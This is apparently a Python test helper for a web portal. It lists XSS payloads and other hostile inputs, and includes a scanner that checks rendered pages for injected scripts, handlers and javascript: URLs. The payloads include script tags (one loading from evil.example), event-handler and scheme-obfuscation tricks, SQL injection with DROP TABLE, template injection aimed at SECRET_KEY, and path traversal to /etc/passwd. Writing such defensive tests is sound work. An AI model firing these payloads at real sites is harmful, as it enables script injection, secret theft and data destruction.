"""Hostile input for the bad-input and XSS tests, and the check that none of it became code.

XSS_PAYLOADS are known attacks on HTML sanitisers and escaping: each would set
`window.__xss` (or load something) if it ever reached a page as markup. HOSTILE adds other
values that break careless code: NUL, odd digits, numbers out of range, SQL and template syntax,
path traversal and very long strings. `code_in_page()` lists what a page would run or load from
them: it parses the page with the standard library's HTML parser and knows the portal's own
scripts, so anything else of the kind is injected.
"""

import re
from html.parser import HTMLParser

XSS_PAYLOADS = [
    # Script elements, in every spelling.
    "<script>window.__xss=1</script>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    '<script src="data:text/javascript,window.__xss=1"></script>',
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    "<![CDATA[<script>window.__xss=1</script>]]>",
    "<!--<img src=--><img src=x onerror=window.__xss=1//-->",
    # Event handlers.
    '<img src=x onerror="window.__xss=1">',
    "<IMG SRC=x OnErRoR=window.__xss=1>",
    "<img src=x onerror=window.__xss=1//",
    '<body onload="window.__xss=1">',
    '<input autofocus onfocus="window.__xss=1">',
    '<details open ontoggle="window.__xss=1"><summary>x</summary></details>',
    '<a href="https://example.org" onclick="window.__xss=1">klicka</a>',
    '<p onmouseover=window.__xss=1 title="x">text</p>',
    '<video><source onerror="window.__xss=1"></video>',
    # Links and sources with other schemes than http(s).
    '<a href="javascript:window.__xss=1">klicka</a>',
    '<a href="JaVaScRiPt:window.__xss=1">klicka</a>',
    '<a href="jav&#x09;ascript:window.__xss=1">klicka</a>',
    '<a href="jav&#x0A;ascript:window.__xss=1">klicka</a>',
    '<a href="jav\tascript:window.__xss=1">klicka</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">k</a>',
    '<a href="&#x6A;avascript&colon;window.__xss=1">klicka</a>',
    '<a href=" \x01javascript:window.__xss=1">klicka</a>',
    '<a href="vbscript:msgbox(1)">klicka</a>',
    '<a href="data:text/html,<script>window.__xss=1</script>">klicka</a>',
    '<a href="javascript:window.__xss=1"',
    '<form action="javascript:window.__xss=1"><button>x</button></form>',
    '<button formaction="javascript:window.__xss=1">x</button>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:window.__xss=1//">',
    '<link rel="stylesheet" href="javascript:window.__xss=1">',
    # Frames and plug-ins.
    '<iframe src="javascript:window.__xss=1"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:window.__xss=1"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">',
    "<frameset><frame src=javascript:window.__xss=1></frameset>",
    # SVG and MathML.
    '<svg onload="window.__xss=1">',
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:window.__xss=1"><text y="20">x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:window.__xss=1"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1>#x"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1"></style>',
    '<math href="javascript:window.__xss=1">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    # Styles.
    '<div style="background:url(javascript:window.__xss=1)">x</div>',
    '<style>@import "javascript:window.__xss=1";</style>',
    # Breaking out of the element or attribute the text lands in.
    '"><script>window.__xss=1</script>',
    "'><img src=x onerror=window.__xss=1>",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    # Markdown's own links and images.
    "[klicka](javascript:window.__xss=1)",
    "[klicka](JAVASCRIPT:window.__xss=1)",
    "[klicka](javascript&#58;window.__xss=1)",
    "[klicka](<javascript:window.__xss=1>)",
    "[klicka](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)",
    "[klicka](vbscript:msgbox(1))",
    "![bild](javascript:window.__xss=1)",
    '![bild](x" onerror="window.__xss=1)',
    '[klicka](https://example.org "titel" onmouseover="window.__xss=1")',
    "[klicka][ref]\n\n[ref]: javascript:window.__xss=1",
    "<javascript:window.__xss=1>",
    '<https://example.org/"onmouseover="window.__xss=1>',
    'https://example.org/"onmouseover="window.__xss=1"',
    "www.example.org/<script>window.__xss=1</script>",
    # htmx attributes, which the page's htmx would act on.
    '<div hx-get="/konto/logga-ut/" hx-trigger="load" hx-on::after-request="window.__xss=1">',
    '<button hx-on:click="window.__xss=1" data-hx-on-click="window.__xss=1">x</button>',
    # A custom element: if this tag is ever in a page, the text was not escaped.
    "<xss-marker>x</xss-marker>",
]

HOSTILE = [
    *XSS_PAYLOADS,
    "",
    " ",
    "\x00",
    "a\x00b",
    "%00",
    "\r\nSet-Cookie: x=1",
    "\u202egnp.exe",
    "\ufeff\u200b\u2028",
    "ﷺ" * 50,
    "𝕏🙂" * 20,
    "x" * 5000,
    "å" * 300,
    "' OR '1'='1",
    "1; DROP TABLE ideas_idea; --",
    "%' OR 1=1 --",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${7*7}",
    "%s%n%x",
    "../../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "0",
    "-1",
    "1",
    "2",
    "01",
    "1.0",
    "1e5",
    "1e309",
    "NaN",
    "Infinity",
    " 2 ",
    "²",
    "١٢",
    "0x10",
    "9" * 20,
    "9" * 5000,
    "2147483648",
    "9223372036854775808",
    "[]",
    "{}",
    "null",
    "true",
]

# Attributes whose value a browser follows or runs as an address.
_URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "data", "xlink:href", "background", "poster",
    "lowsrc", "dynsrc", "values", "to", "from", "codebase", "cite", "ping",
}  # fmt: skip
_NEVER = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "animate",
    "set", "animatetransform", "animatemotion", "handler", "foreignobject", "use", "xss-marker",
    "math", "template", "noscript", "portal",
}  # fmt: skip


def _dangerous_url(value: str) -> bool:
    # As the URL standard reads an address: controls and spaces around it are dropped, and
    # tabs and line breaks anywhere in it ("jav\tascript:" is "javascript:").
    url = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21))))).lower()
    if url == "data:,":  # the empty favicon of the 500 page
        return False
    return url.startswith(("javascript:", "vbscript:", "data:", "livescript:"))


class _Scanner(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        where = self.get_starttag_text()
        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
            self.found.append(f"script element: {where}")
        elif tag in _NEVER:
            self.found.append(f"<{tag}> element: {where}")
        elif tag == "meta" and "http-equiv" in attributes:
            self.found.append(f"meta http-equiv: {where}")
        for name, value in attrs:
            if name.startswith(("on", "hx-on", "data-hx-on")):
                self.found.append(f"event handler {name}: {where}")
            elif name.removeprefix("data-") == "hx-trigger" and re.search(
                r"load|revealed|intersect|every", value or ""
            ):
                self.found.append(f"request without a visitor's action: {where}")
            elif name in ("style", "srcdoc"):
                self.found.append(f"{name} attribute: {where}")
            elif name in _URL_ATTRIBUTES and value and _dangerous_url(value):
                self.found.append(f"{name}={value!r}: {where}")

    handle_startendtag = handle_starttag


def code_in_page(html: str) -> list[str]:
    """Everything in the page that a browser would run or load and the portal did not put there."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.found


def assert_no_code(response) -> None:
    """An HTML answer carries nothing executable from what was sent to it."""
    if not response.get("Content-Type", "").startswith("text/html"):
        return
    content = b"".join(response.streaming_content) if response.streaming else response.content
    found = code_in_page(content.decode(response.charset or "utf-8", errors="replace"))
    assert not found, f"{response.status_code} answer carries injected code:\n" + "\n".join(found)
